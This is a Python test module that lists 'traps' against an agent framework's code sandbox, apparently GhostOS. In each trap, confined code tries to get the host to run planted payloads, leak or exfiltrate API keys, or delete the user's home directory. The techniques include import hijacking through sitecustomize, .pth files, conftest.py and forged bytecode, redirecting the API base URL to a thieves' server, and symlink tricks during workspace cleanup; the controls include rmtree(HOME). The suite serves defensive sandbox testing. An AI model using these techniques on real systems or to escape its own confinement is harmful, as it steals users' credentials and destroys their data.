"""Traps: what confined code leaves, where it may write or not, so that the host or its user does what the code may not.

Child ghosts and the approval of code (`--approve`) do not exist in this version: nothing is tried on them. Nor does the
host open a file that a worker names, a plot say: of the folder that code has for itself it only removes what is in it.
"""

import sys
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Final, Literal

from tests.abuse.house import TIMED_OUT, House, Shown, remove

OFF: Final = ("--sandbox", "off")
Ending = Literal["refused", "failed", "ran"]
"""The grant was refused and nothing ran; the code failed; it did what it could, in vain."""
STATUS: Final[dict[Ending, int]] = {"refused": 2, "failed": 1, "ran": 0}


@dataclass
class Played:
    """What was seen of a trap: the run of the code, and what the user did next."""

    run: Shown
    after: Shown | None = None

    @property
    def text(self) -> str:
        return self.run.text + (self.after.text if self.after else "")


@dataclass(frozen=True, kw_only=True)
class Trap:
    """Something that confined code does, and what the user does then, unsuspecting.

    Attributes:
        name: A claim's subject.
        code: What lays it; it knows the facts of the house.
        options: What the user allowed.
        ends: How the run of the code ends.
        waits: The user is told then that something waits until it is accepted.
        then: What the user does next.
        effect: Whether the trap caught somebody.
        lay: What is there before.
        variables: Of the environment of all commands.
        is_plain: The target is the file that is never executed on the host.
        control: Other code for the control, which runs with `--sandbox off`.
        control_options: Of the control, where confinement is not what keeps the trap shut.
        control_then: What the user does next in the control, likewise.
        unless_control: Why the control may fail on some machines.
    """

    name: str
    code: str
    effect: Callable[[House, Played], bool]
    options: tuple[str, ...] = ()
    ends: Ending = "ran"
    waits: bool = False
    then: Callable[[House], Shown] | None = None
    lay: Callable[[House], None] = lambda house: None
    variables: Mapping[str, str] = field(default_factory=dict)
    is_plain: bool = False
    control: str = ""
    control_options: tuple[str, ...] = OFF
    control_then: Callable[[House], Shown] | None = None
    unless_control: str = ""


def play(trap: Trap, house: House, *, is_control: bool = False) -> Played:
    """Lay a trap and walk into it."""
    house.variables = trap.variables
    trap.lay(house)
    house.give_to_user()
    code, options, then = trap.code, trap.options, trap.then
    if is_control:
        code, options, then = trap.control or code, trap.control_options, trap.control_then or then
    target = house.plain if trap.is_plain else house.agent
    run = house.run_code(code, *options, target=target)
    return Played(run, then(house) if then else None)


# Effects


def ran_with_the_users_rights(house: House, played: Played) -> bool:
    """Whether the payload ran where it could write its mark."""
    return house.mark.exists()


def robbed(house: House, played: Played) -> bool:
    """Whether somebody else's server got the key."""
    return bool(house.thieves.requests)


def keys_came_out(house: House, played: Played) -> bool:
    """Whether the keys of a workspace were printed."""
    return any(house.scene.secrets[name] in played.text for name in ("keys", "own keys", "database"))


def home_is_harmed(house: House, played: Played) -> bool:
    """Whether the user's secret is gone."""
    return not (house.home / "secret.txt").exists()


def hangs(house: House, played: Played) -> bool:
    """Whether a command did not come back."""
    return TIMED_OUT in (played.run.status, played.after.status if played.after else 0)


# What the user does next


def start_again(house: House) -> Shown:
    """Use the target, whose marked function runs on the host."""
    return house.run("moss", "run", str(house.agent), "--code", "-", typed="print(greet())", workspace=house.workspace)


def start_in_own_workspace(house: House) -> Shown:
    """Use the target in the user's own workspace."""
    return house.run("moss", "run", str(house.agent), "--code", "-", typed="print(greet())")


def start_as_python_does(house: House) -> Shown:
    """The control: Python believes bytecode."""
    return house.start([str(house.python), "-c", "import helper"], folder=house.agents)


def ask_again(house: House) -> Shown:
    """Ask a model, in the workspace that is found."""
    return house.ask()


def ask_in_data(house: House) -> Shown:
    return house.ask(folder=house.data)


def ask_in_data_by_name(house: House) -> Shown:
    """The control: the user names a workspace that they did not make."""
    return house.ask("--workspace", "app", folder=house.data)


def grant(path: str) -> Callable[[House], Shown]:
    """Allow reading what the code has made, and read it."""
    return lambda house: house.run_code(f"print(open('{path}'.format(**globals())).read())", "--allow-read", path)


def import_there(house: House) -> Shown:
    """The control: Python imports from the folder where it is started."""
    return house.start([str(house.python), "-c", "import openai"], folder=house.agents)


def test_target(house: House) -> Shown:
    """Have GhostOS run the target's own tests."""
    return house.run("moss", "test", str(house.agent), workspace=house.workspace)


def run_tests(house: House) -> Shown:
    """The control: pytest imports it."""
    return house.start([str(house.python), "-m", "pytest", "-q", "."])


def clear(house: House) -> Shown:
    """Have a ghost lay the same in its folder; then clear the workspace."""
    house.codes.append(house.code(LINKS))
    asked = house.run("ask", str(house.plain), "go on", workspace=house.workspace)
    cleared = house.run("clear-runtime", "--yes", workspace=house.workspace)
    return Shown(cleared.status, asked.text + cleared.text)


# What is there before


def link(place: str, to: str) -> Callable[[House], None]:
    """A link of the user's."""

    def lay(house: House) -> None:
        facts = house.facts()
        path = Path(place.format(**facts))
        if path.exists():
            remove(path)
        path.symlink_to(to.format(**facts))

    return lay


def folder(place: str) -> Callable[[House], None]:
    """An empty folder of the user's."""
    return lambda house: Path(place.format(**house.facts())).mkdir()


def make_known(house: House) -> None:
    """The workspace that is named to commands is one that the user has made."""
    house.give_to_user()
    house.run("init", str(house.workspace))


def _lay_plugins(house: House) -> None:
    """The agent imports whatever is in a folder beside it, which is empty."""
    (house.agents / "plugins").mkdir()
    load = (
        "    import importlib, pkgutil, plugins\n"
        "    for each in pkgutil.iter_modules(plugins.__path__): importlib.import_module(f'plugins.{each.name}')\n"
    )
    house.agent.write_text(house.agent.read_text().replace("    import greeting\n", f"    import greeting\n{load}"))


def _lay_linked_settings(house: House) -> None:
    """The settings of the user's workspace lie with their data."""
    (house.own / "configs").rename(house.data / "settings")
    (house.own / "configs").symlink_to(house.data / "settings")


def _lay_made_workspace(house: House) -> None:
    """The user has made a workspace in the data."""
    house.run("init", folder=house.data)
    house.point(house.data / "app", house.models.base_url)


def _lay_cloned_workspace(house: House) -> None:
    """A workspace came with what the user has cloned."""
    house.point(house.data / "app", house.thieves.base_url)


def _lay_openai(house: House) -> None:
    """A file that has a library's name came with the target."""
    (house.agents / "openai.py").write_text(f"{house.facts()['PAYLOAD']}raise ImportError('no such thing')\n")


WRITE, READ = "--allow-write", "--allow-read"

PYC: Final = """
import importlib.util, marshal, struct
status = os.stat(SOURCE)
code = marshal.dumps(compile(PAYLOAD + "TEXT = NAME = 'hello'", SOURCE, "exec"))
head = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(status.st_mtime), status.st_size)
open(COMPILED, "wb").write(head + code)
"""
MARKING: Final = """
mark = "from ghostos_moss import on_host\\n\\n\\n@on_host\\ndef marked() -> int:\\n    return 1\\n\\n\\n"
open(PLAIN, "a").write(mark + PAYLOAD)
"""
PERMITTING: Final = """
asked = f"__moss_permissions__ = Permissions(read=[{HOME!r}])\\n"
open(PLAIN, "a").write("from ghostos_moss import Permissions\\n" + asked)
"""
REPLACING: Final = """
open(DATA + "/other.py", "w").write(open(AGENT).read() + PAYLOAD)
os.rename(DATA + "/other.py", DATA + "/agent.py")
"""
STDLIB: Final = """
real = os.path.dirname(os.__file__)
fake = f"{DATA}/lib/{os.path.basename(real)}"
os.makedirs(fake)
os.makedirs(DATA + "/bin")
for name in os.listdir(real):
    if name != "sitecustomize.py": os.symlink(f"{real}/{name}", f"{fake}/{name}")
open(fake + "/sitecustomize.py", "w").write(PAYLOAD)
open(ENVIRONMENT + "/pyvenv.cfg", "w").write(f"home = {DATA}/bin\\ninclude-system-site-packages = false\\n")
"""
MADE: Final = """
os.makedirs(DATA + "/app/configs")
open(DATA + "/app/configs/ghostos.toml", "w").write(STOLEN)
"""
LINKS: Final = """
os.symlink(HOME, "home")
os.makedirs("a/b/c")
os.symlink(HOME, "a/b/c/home")
os.symlink(SECRET, "a/plot.png")
os.mkdir("locked", 0)
os.mkdir("a/locked", 0)
"""
PLANTED: Final = """
for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "openai.py", "pandas.py", "ghostos.py"):
    open(f"{DATA}/{name}", "w").write(PAYLOAD)
open(DATA + "/x.pth", "w").write(f"import os; exec({PAYLOAD!r})\\n")
"""

TRAPS = (
    # Code that the host, or its next start, runs
    Trap(
        name="a file beside the target, through a grant of its folder",
        options=(WRITE, "{AGENTS}"),
        code="open(HELPER, 'a').write(PAYLOAD)",
        waits=True,
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="a file beside the target, through a grant of it",
        options=(WRITE, "{HELPER}"),
        code="open(HELPER, 'a').write(PAYLOAD)",
        waits=True,
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="a file beside the target, through a grant of a link to it",
        options=(WRITE, "{DATA}/notes.txt"),
        lay=link("{DATA}/notes.txt", "{HELPER}"),
        code="open(DATA + '/notes.txt', 'a').write(PAYLOAD)",
        waits=True,
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="a file beside the target, through a link in a granted folder",
        options=(WRITE, "{DATA}"),
        lay=link("{DATA}/way", "{AGENTS}"),
        code="open(DATA + '/way/helper.py', 'a').write(PAYLOAD)",
        ends="failed",
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="a file beside the target, through a second name of it",
        options=(WRITE, "{DATA}"),
        code="os.link(HELPER, DATA + '/second')\nopen(DATA + '/second', 'a').write(PAYLOAD)",
        ends="failed",
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="a file beside the target, through a grant above",
        options=(WRITE, "{PROJECT}"),
        code="open(HELPER, 'a').write(PAYLOAD)",
        waits=True,
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="a new file in a folder without any from which the target imports",
        options=(WRITE, "{AGENTS}/plugins"),
        lay=_lay_plugins,
        code="open(AGENTS + '/plugins/more.py', 'w').write(PAYLOAD)",
        then=start_again,
        effect=ran_with_the_users_rights,
        waits=True,
    ),
    Trap(
        name="the target itself",
        options=(WRITE, "{AGENTS}"),
        code="open(AGENT, 'a').write(PAYLOAD)",
        waits=True,
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="a mark in a plain target",
        is_plain=True,
        options=(WRITE, "{AGENTS}"),
        code=MARKING,
        waits=True,
        then=lambda house: house.run_code("print(marked())", target=house.plain),
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="permissions in a plain target",
        is_plain=True,
        options=(WRITE, "{AGENTS}"),
        code=PERMITTING,
        waits=True,
        then=lambda house: house.run_code("print(open(SECRET).read())", target=house.plain),
        effect=lambda house, played: house.scene.secrets["home"] in played.text,
    ),
    Trap(
        name="a file in the place of a link to the target",
        options=(WRITE, "{DATA}"),
        code=REPLACING,
        lay=link("{DATA}/agent.py", "{AGENT}"),
        waits=True,
        then=lambda house: house.run_code("print(greet())", target=house.data / "agent.py"),
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="a package in the place of a file",
        options=(WRITE, "{AGENTS}"),
        code="os.mkdir(AGENTS + '/helper')\nopen(AGENTS + '/helper/__init__.py', 'w').write('NAME = 1\\n' + PAYLOAD)",
        waits=True,
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="bytecode in the place of a file",
        options=(WRITE, "{AGENTS}"),
        code=f"SOURCE, COMPILED = HELPER, AGENTS + '/helper.pyc'\n{PYC}\nos.remove(HELPER)",
        waits=True,
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="bytecode beside a file",
        options=(WRITE, "{AGENTS}"),
        code="SOURCE = HELPER\nos.mkdir(AGENTS + '/__pycache__')\n"
        f"COMPILED = AGENTS + '/__pycache__/helper.' + {sys.implementation.cache_tag!r} + '.pyc'\n{PYC}",
        then=start_again,
        control_then=start_as_python_does,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="a file with the name of one in another folder of code",
        options=(WRITE, "{AGENTS}"),
        code="open(AGENTS + '/greeting.py', 'w').write('TEXT = 1\\n' + PAYLOAD)",
        then=start_again,
        control="open(LIBRARY + '/greeting.py', 'w').write('TEXT = 1\\n' + PAYLOAD)",
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="a file beside the target, before it is used in another workspace",
        lay=make_known,
        options=(WRITE, "{AGENTS}"),
        code="open(HELPER, 'a').write(PAYLOAD)",
        waits=True,
        then=start_in_own_workspace,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="the same, where the first workspace was only named to a command",
        options=(WRITE, "{AGENTS}"),
        code="open(HELPER, 'a').write(PAYLOAD)",
        waits=True,
        then=start_in_own_workspace,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="a library in another folder of code",
        options=(WRITE, "{LIBRARY}"),
        code="open(LIBRARY + '/greeting.py', 'a').write(PAYLOAD)",
        ends="refused",
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="the bytecode of a library",
        options=(WRITE, "{LIBRARY}/__pycache__"),
        lay=folder("{LIBRARY}/__pycache__"),
        code="SOURCE = LIBRARY + '/greeting.py'\n"
        f"COMPILED = LIBRARY + '/__pycache__/greeting.' + {sys.implementation.cache_tag!r} + '.pyc'\n{PYC}",
        ends="refused",
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="sitecustomize in a folder of code that is not there yet",
        variables={"PYTHONPATH": "{LIBRARY}:{LATER}"},
        options=(WRITE, "{DATA}"),
        code="os.mkdir(LATER)\nopen(LATER + '/sitecustomize.py', 'w').write(PAYLOAD)",
        ends="refused",
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="a folder of code in the place of a link to one",
        variables={"PYTHONPATH": "{LIBRARY}:{LATER}"},
        options=(WRITE, "{DATA}"),
        lay=link("{LATER}", "{LIBRARY}"),
        code="os.remove(LATER)\nos.mkdir(LATER)\nopen(LATER + '/sitecustomize.py', 'w').write(PAYLOAD)",
        ends="refused",
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="a .pth file in site-packages",
        options=(WRITE, "{PACKAGES}"),
        code="open(PACKAGES + '/x.pth', 'w').write(f'import os; exec({PAYLOAD!r})\\n')",
        ends="refused",
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="usercustomize in the user's own site-packages, which are not there yet",
        options=(WRITE, "{HOME}/.local"),
        code="os.makedirs(USERS_PACKAGES)\nopen(USERS_PACKAGES + '/usercustomize.py', 'w').write(PAYLOAD)",
        ends="refused",
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="the program that is started next",
        options=(WRITE, "{ENVIRONMENT}/bin"),
        code="open(ENVIRONMENT + '/bin/ghostos', 'w').write(f'#!{ENVIRONMENT}/bin/python\\n{PAYLOAD}')",
        ends="refused",
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="where the interpreter finds its library",
        options=(WRITE, "{ENVIRONMENT}/pyvenv.cfg", WRITE, "{DATA}"),
        code=STDLIB,
        ends="refused",
        then=start_again,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="conftest.py beside the target",
        options=(WRITE, "{AGENTS}"),
        code="open(AGENTS + '/conftest.py', 'w').write(PAYLOAD)",
        then=test_target,
        control_then=run_tests,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="names of libraries in the folder where GhostOS is started next",
        options=(WRITE, "{DATA}"),
        code=PLANTED,
        then=ask_in_data,
        control_then=lambda house: house.start(
            [str(house.python), "-m", "ghostos", "ask", str(house.plain), "go on"],
            folder=house.data,
        ),
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="the same in the folder that is its own",
        code=PLANTED.replace("{DATA}/", "./").replace("DATA + ", "'.' + "),
        then=start_again,
        control=PLANTED.replace("{DATA}/", "{LIBRARY}/").replace("DATA + ", "LIBRARY + "),
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="a library's name beside a plain target, by the code",
        is_plain=True,
        options=(WRITE, "{AGENTS}"),
        code="open(AGENTS + '/openai.py', 'w').write(PAYLOAD)",
        then=ask_again,
        control_then=import_there,
        effect=ran_with_the_users_rights,
    ),
    Trap(
        name="a library's name beside a plain target, as it came",
        is_plain=True,
        lay=_lay_openai,
        code="print(plus(2, 3))",
        then=ask_again,
        control_then=import_there,
        effect=ran_with_the_users_rights,
    ),
    # The workspace
    Trap(
        name="keys, through a grant above the workspace",
        options=(READ, "{BASE}"),
        code="print(open(SECRET).read(), open(WORKSPACE + '/.env').read())",
        ends="failed",
        effect=keys_came_out,
    ),
    Trap(
        name="the database, through a grant above the workspace",
        options=(READ, "{BASE}"),
        code="print(open(WORKSPACE + '/runtime/other.db', 'rb').read())",
        ends="failed",
        effect=keys_came_out,
    ),
    Trap(
        name="keys, through a grant of the workspace",
        options=(READ, "{WORKSPACE}"),
        code="print(open(WORKSPACE + '/.env').read())",
        ends="refused",
        effect=keys_came_out,
    ),
    Trap(
        name="keys, through a grant of their file",
        options=(READ, "{WORKSPACE}/runtime/../.env"),
        code="print(open(WORKSPACE + '/.env').read())",
        ends="refused",
        effect=keys_came_out,
    ),
    Trap(
        name="keys, through a grant of a link to the workspace",
        options=(READ, "{DATA}/way"),
        lay=link("{DATA}/way", "{WORKSPACE}"),
        code="print(open(DATA + '/way/.env').read())",
        ends="refused",
        effect=keys_came_out,
    ),
    Trap(
        name="keys, through a link in a granted folder",
        options=(READ, "{DATA}"),
        lay=link("{DATA}/way", "{WORKSPACE}"),
        code="print(open(DATA + '/way/.env').read())",
        ends="failed",
        effect=keys_came_out,
    ),
    Trap(
        name="keys, through a link of the code's that is granted then",
        options=(WRITE, "{DATA}"),
        code="os.symlink(WORKSPACE + '/.env', DATA + '/report.txt')",
        then=grant("{DATA}/report.txt"),
        control_then=lambda house: house.run_code("print(open(DATA + '/report.txt').read())", *OFF),
        effect=keys_came_out,
    ),
    Trap(
        name="keys, under another name of theirs",
        options=(WRITE, "{DATA}"),
        code="os.link(WORKSPACE + '/.env', DATA + '/second')\nprint(open(DATA + '/second').read())",
        ends="failed",
        effect=keys_came_out,
    ),
    Trap(
        name="keys of the user's own workspace while another one is used",
        options=(READ, "{HOME}"),
        code="print(open(SECRET).read(), open(OWN + '/.env').read())",
        ends="failed",
        effect=keys_came_out,
    ),
    # Keys that are sent elsewhere
    Trap(
        name="a workspace that came with the data",
        lay=_lay_cloned_workspace,
        code="print(total())",
        then=ask_in_data,
        control_then=ask_in_data_by_name,
        effect=robbed,
    ),
    Trap(
        name="a workspace that the code made",
        options=(WRITE, "{DATA}"),
        code=MADE,
        then=ask_in_data,
        control_then=ask_in_data_by_name,
        effect=robbed,
    ),
    Trap(
        name="a workspace that the code made, and its record",
        options=(WRITE, "{DATA}", WRITE, "{HOME}/.local/share"),
        code=f"{MADE}\nimport json\nrecord = json.dumps([os.path.join(os.path.realpath(DATA), 'app')])\n"
        "open(os.path.join(OWN, 'workspaces.json'), 'w').write(record)",
        ends="failed",
        then=ask_in_data,
        effect=robbed,
    ),
    Trap(
        name="settings of the user's own workspace while another one is used",
        options=(WRITE, "{HOME}/.local/share"),
        code="open(OWN + '/configs/ghostos.toml', 'w').write(STOLEN)",
        ends="failed",
        then=ask_again,
        effect=robbed,
    ),
    Trap(
        name="settings of another workspace of the user's",
        lay=_lay_made_workspace,
        options=(WRITE, "{DATA}/app"),
        code="open(DATA + '/app/configs/ghostos.toml', 'w').write(STOLEN)",
        ends="refused",
        then=ask_in_data,
        effect=robbed,
    ),
    Trap(
        name="settings that lie elsewhere, behind a link",
        lay=_lay_linked_settings,
        options=(WRITE, "{DATA}"),
        code="open(DATA + '/settings/ghostos.toml', 'w').write(STOLEN)",
        ends="failed",
        then=ask_again,
        effect=robbed,
    ),
    Trap(
        name="an address in the .env of the folder where GhostOS is started next",
        options=(WRITE, "{DATA}"),
        code="open(DATA + '/.env', 'w').write('OPENAI_BASE_URL=' + STOLEN.split('\"')[1] + '\\n')",
        then=ask_in_data,
        control="open(OWN + '/.env', 'w').write('OPENAI_BASE_URL=' + STOLEN.split('\"')[1] + '\\n')",
        effect=robbed,
    ),
    # What is left in the folder that code has for itself
    Trap(
        name="a link in the place of its own folder",
        options=(WRITE, "{DATA}"),
        variables={"TMPDIR": "{DATA}"},
        code="here = os.getcwd()\nos.rename(here, here + '-moved')\nos.symlink(HOME, here)",
        effect=home_is_harmed,
        control="import shutil\nshutil.rmtree(HOME)",
    ),
    Trap(
        name="a pipe where the user keeps files",
        options=(WRITE, "{DATA}"),
        code="os.mkfifo(DATA + '/plot.png')",
        ends="failed",
        effect=lambda house, played: (house.data / "plot.png").exists(),
    ),
    Trap(
        name="a device where the user keeps files",
        options=(WRITE, "{DATA}"),
        code="os.mknod(DATA + '/plot.png', 0o600 | 0o20000, os.makedev(1, 5))",
        ends="failed",
        effect=lambda house, played: (house.data / "plot.png").exists(),
        unless_control="only root makes devices",
    ),
    Trap(
        name="a socket where the user keeps files",
        options=(WRITE, "{DATA}"),
        code="os.mknod(DATA + '/plot.png', 0o600 | 0o140000)",
        ends="failed",
        effect=lambda house, played: (house.data / "plot.png").exists(),
    ),
    Trap(
        name="links in its own folder",
        code=LINKS,
        effect=home_is_harmed,
        control="import shutil\nshutil.rmtree(HOME)",
    ),
    Trap(
        name="links in the folder of a ghost, when the workspace is cleared",
        code="print(total())",
        then=clear,
        effect=home_is_harmed,
        control="import shutil\nshutil.rmtree(HOME)",
    ),
)
